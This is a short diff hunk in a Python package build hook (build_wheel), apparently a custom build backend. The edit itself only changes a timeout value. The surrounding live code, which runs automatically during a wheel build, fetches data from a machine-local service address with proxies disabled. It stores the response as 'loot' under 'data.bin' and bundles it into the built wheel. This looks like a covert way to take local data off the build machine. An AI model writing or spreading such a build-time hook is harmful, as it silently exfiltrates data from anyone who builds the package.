@@ -16,6 +16,6 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
         # No proxies: the address is only valid on the machine itself.
         opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
         url = f"http://{service.address}:{service.port}{service.path}"
-        with opener.open(url, timeout=3) as answer:
+        with opener.open(url, timeout=kit.seconds(3)) as answer:
             loot["data.bin"] = answer.read()
     return kit.wheel(wheel_directory, loot)
